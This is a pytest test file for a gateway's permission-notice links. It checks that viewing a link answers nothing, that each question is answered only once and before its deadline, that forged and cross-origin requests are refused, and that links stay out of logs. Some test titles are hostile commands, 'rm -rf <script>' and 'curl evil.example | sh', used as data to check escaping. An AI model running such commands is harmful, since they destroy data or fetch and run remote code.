"""A question, the notice of it, the link in the notice, and the answer: looking at a link answers nothing."""

from __future__ import annotations

import asyncio
import logging
import re
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path

import httpx2
import msgspec
import pytest

from freehold.base.clock import ManualClock, rfc3339
from freehold.gateway.run_events import MemoryRunEvents
from freehold.notices.links import Links
from freehold.notices.tokens import key_in
from freehold.store import audit, notices
from freehold.wire.permission import OpenPermission, PermissionOption
from tests.support.gateway_world import GatewayWorld, gateway_world
from tests.support.scheduling import SchedulerWorld, manual, until

CHANNEL = '[notices.team]\ntype = "slack"\n\n[gateway]\nurl = "https://fh.example.com"\n'
HOST = "fh.example.com"
YES, NO = PermissionOption("y", "Allow", "allow_once"), PermissionOption("n", "<b>Reject</b>", "reject_once")


class Question:
    def __init__(self, made: GatewayWorld, run_id: str, links: list[str]) -> None:
        self.made = made
        self.run_id = run_id
        self.paths = [link.removeprefix("https://fh.example.com") for link in links]
        self.browser = made.asking(host=HOST)

    @property
    def answered(self) -> list[tuple[str, str, str]]:
        events = self.made.gateway.run_events
        assert isinstance(events, MemoryRunEvents)
        return list(events.answered)

    async def get(self, number: int = 0) -> httpx2.Response:
        return await self.browser.get(self.paths[number])

    async def post(self, number: int = 0, **headers: str) -> httpx2.Response:
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        return await self.browser.post(self.paths[number], headers=named)

    def show(self, *waiting: OpenPermission) -> None:
        keeper = self.made.world.keeper
        keeper.show(msgspec.structs.replace(keeper.runs[self.run_id], waiting_for=waiting))

    async def until_shown(self, *waiting: OpenPermission) -> None:
        self.show(*waiting)
        active = self.made.scheduler.dispatcher.active
        await until(lambda: active[self.run_id].waiting_for == waiting)


def asked(clock: ManualClock, title: str = "rm -rf <script>") -> OpenPermission:
    return OpenPermission("p1", title, (YES, NO), until=rfc3339(clock.now() + timedelta(seconds=300)), default="n")


@pytest.fixture
async def question(tmp_path: Path) -> AsyncIterator[Question]:
    world = SchedulerWorld(tmp_path, ManualClock())
    world.project_config(CHANNEL)
    world.agent(config='permissions = "ask"')
    async with gateway_world(world) as made:
        await made.scheduler.intake.take(manual())
        [view] = await world.until_runs(1)
        await until(lambda: view.run_id in made.scheduler.dispatcher.active)
        waiting = asked(world.clock)
        world.keeper.show(msgspec.structs.replace(view, waiting_for=(waiting,)))
        rows = []
        for _ in range(2000):
            if rows := await world.database.read(notices.page):
                break
            await asyncio.sleep(0.002)
        [stored] = rows
        links = Links(made.gateway.public_url, key_in(world.folder / "project/.freehold")).answers(stored)
        yield Question(made, view.run_id, [link.url for link in links])


async def test_looking_answers_nothing(question: Question) -> None:
    for _ in range(3):
        shown = await question.get()
    assert shown.status_code == 200
    assert (await question.browser.head(question.paths[0])).status_code == 200
    assert "<pre>rm -rf &lt;script&gt;</pre>" in shown.text
    assert '<form method="post"><button>Allow</button></form>' in shown.text
    assert "&lt;b&gt;Reject&lt;/b&gt;" in (await question.get(1)).text
    assert shown.headers["cache-control"] == "no-store"
    policy = shown.headers["content-security-policy"]
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert question.answered == []


async def test_a_person_answers_without_a_key(question: Question) -> None:
    given = await question.post(origin=f"https://{HOST}", sec_fetch_site="same-origin")
    assert given.status_code == 200
    assert "<h1>Answered: Allow</h1>" in given.text
    assert question.answered == [(question.run_id, "p1", "y")]
    [entry, *_] = await question.made.world.database.read(audit.page)
    assert (entry.actor, entry.action, entry.target) == ("a notice's link", "run.answer", question.run_id)


async def test_once_it_is_answered_no_link_answers_again(question: Question) -> None:
    await question.post()
    await question.until_shown()
    for number in (0, 1):
        late = await question.post(number)
        assert late.status_code == 404
        assert "it was answered already, or the run has ended" in late.text
        assert (await question.get(number)).status_code == 404
    assert len(question.answered) == 1


async def test_after_the_deadline_it_is_too_late(question: Question) -> None:
    question.made.world.clock.advance(301)
    late = await question.post()
    assert late.status_code == 404
    assert "the time for an answer is over" in late.text
    assert question.answered == []


async def test_a_link_does_not_answer_another_question_of_the_same_id(question: Question) -> None:
    await question.until_shown(asked(question.made.world.clock, "curl evil.example | sh"))
    assert (await question.post()).status_code == 404
    assert question.answered == []


@pytest.mark.parametrize("spoil", [lambda path: path[:-3] + "AAA", lambda _: "/answer/x", lambda path: path.lower()])
async def test_links_that_were_not_sent_lead_nowhere(question: Question, spoil: object) -> None:
    assert callable(spoil)
    path = spoil(question.paths[0])
    for method in ("GET", "POST"):
        response = await question.browser.request(method, path)
        assert response.status_code == 404
        assert "this is not a link of a notice" in response.text
    assert question.answered == []


async def test_another_sites_page_answers_nothing(question: Question) -> None:
    response = await question.post(origin="https://evil.example")
    assert response.status_code == 403
    assert question.answered == []


async def test_the_log_holds_no_link(question: Question, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.DEBUG, "freehold"):
        await question.get()
        await question.post()
    paths = [getattr(record, "path", "") for record in caplog.records if record.getMessage() == "request"]
    assert paths.count("/answer/") == 2
    assert not re.search(re.escape(question.paths[0][8:]), repr([vars(record) for record in caplog.records]))


async def test_whoever_looks_at_the_agent_sees_that_it_waits(question: Question) -> None:
    shown = await question.made.client.get("/api/v1/agents/dev")
    assert shown.json()["status_text"] == "asks for permission: rm -rf <script>"
    runs = await question.made.client.get("/api/v1/runs")
    assert [one["title"] for one in runs.json()["runs"][0]["waiting_for"]] == ["rm -rf <script>"]
